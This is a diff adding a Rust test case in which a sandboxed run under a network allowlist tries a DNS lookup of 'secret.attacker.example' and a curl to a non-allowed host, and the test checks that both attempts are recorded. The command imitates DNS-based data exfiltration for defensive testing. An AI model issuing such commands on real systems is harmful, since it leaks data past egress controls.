@@ -167,6 +167,32 @@ fn every_route_answers_as_the_openapi_document_says() {
     let waiting = c.check(("POST", "/v1/runs"), (st, v));
     let waiting_id = waiting["run_id"].as_str().unwrap().to_string();
 
+    // A run with a network allowlist: the egress proxy refuses a name
+    // outside it and the DNS responder records a lookup (`rehearsal.egress`).
+    let mut net: Value = serde_json::from_str(&envelope(
+        &ws,
+        "getent hosts secret.attacker.example; curl -sS http://other.example/; true",
+        &[],
+    ))
+    .unwrap();
+    net["intent"]["network"] = json!({"allow": ["pkgs.example:8080", "*.mirror.example"]});
+    let (st, v) = d.curl(
+        Who::User,
+        "POST",
+        "/v1/runs?wait=true",
+        Some(&net.to_string()),
+    );
+    assert_eq!(st, 200, "{v}");
+    let net_rec = c.check(("POST", "/v1/runs"), (st, v));
+    let egress = net_rec["rehearsal"]["egress"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
+    assert!(
+        egress.iter().any(|e| e["how"] == "dns") && egress.iter().any(|e| e["how"] == "proxy"),
+        "{net_rec}"
+    );
+
     // Two more awaiting approval: one to approve, one to reject.
     let mut awaiting = Vec::new();
     for f in ["a.txt", "b.txt"] {
